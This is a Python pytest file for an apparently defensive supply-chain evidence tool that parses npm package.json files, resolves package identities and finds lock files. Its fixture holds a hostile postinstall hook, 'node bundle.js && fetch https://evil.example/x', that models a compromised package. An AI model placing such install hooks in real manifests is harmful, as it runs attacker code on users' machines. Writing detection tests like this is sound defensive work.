"""package.json, below node_modules and elsewhere."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest
from tests.evidence.packages_contract import covers, look, lost, purls
from tests.evidence_kit import PLANT, Everything

from nachsorge.evidence.identify import reader_for
from nachsorge.evidence.ledger import Ledger
from nachsorge.evidence.readers.package_json import PackageJson
from nachsorge.evidence.units import Unit, opened
from nachsorge.model.words import Kind, Telemetry

if TYPE_CHECKING:
    from pathlib import Path

TREE = {
    "name": "@ctrl/tinycolor",
    "version": "4.1.2",
    "scripts": {"postinstall": "node bundle.js && fetch https://evil.example/x"},
    "dependencies": {"chalk": "5.6.1"},
    "overrides": {"debug": "4.4.2"},
}
BODY = json.dumps(TREE).encode()


@pytest.mark.parametrize(
    ("path", "project"),
    [
        ("repo/node_modules/@ctrl/tinycolor/package.json", "repo/"),
        ("repo/node_modules/a/node_modules/@ctrl/tinycolor/package.json", "repo/"),
        ("node_modules/x/package.json", "./"),
        ("a.zip!node_modules/x/package.json", "a.zip!/"),
    ],
)
def test_an_installed_package_counts_and_proves_no_absence(path, project):
    assert reader_for(BODY, path).name == "package_json"
    (record,), ledger = look(PackageJson(), BODY, path)
    assert purls([record]) == {"pkg:npm/%40ctrl/tinycolor@4.1.2"}
    assert (record.telemetry, ledger.host) == (Telemetry.PACKAGE_LOCK, project)
    assert not covers(ledger) and ledger.gaps and not lost(ledger)


def test_the_project_itself_resolves_nothing_and_is_searched():
    (record,), ledger = look(PackageJson(), BODY, "repo/package.json")
    assert (record.telemetry, purls([record])) == (Telemetry.TEXT, set())
    assert any("evil.example" in value.text for value in record.values)
    assert "1 packages by range" in lost(ledger) and not covers(ledger)


def read(path: Path, shown: str) -> Ledger:
    ledger = Ledger()
    list(PackageJson().read(opened(Unit(path=path, shown=shown), frozenset()), Everything(), ledger))
    return ledger


def test_a_lock_file_beside_or_above_it_is_enough(tmp_path):
    member = tmp_path / "repo/packages/a/package.json"
    member.parent.mkdir(parents=True)
    member.write_bytes(BODY)
    assert read(member, "repo/packages/a/package.json").host == "repo/packages/a/"
    (tmp_path / "repo/yarn.lock").touch()
    ledger = read(member, "repo/packages/a/package.json")
    assert (ledger.host, lost(ledger)) == ("repo/", "")
    # What lies above the folder that was given is nobody's business.
    assert read(member, "a/package.json").host == "a/"


def test_the_control_and_broken_ones():
    planted = PackageJson().plant(b"", PLANT)
    (record,), _ = look(PackageJson(), planted or b"", "package.json")
    assert reader_for(planted or b"", "").name == "package_json"
    assert any(value.kind is Kind.URL and PLANT.host in value.text for value in record.values)
    for body in (b"{", b"[]", b'{"a":' * 5000 + b"1" + b"}" * 5000):
        _, ledger = look(PackageJson(), body, "package.json")
        assert (ledger.unreadable, covers(ledger)) == (1, False)
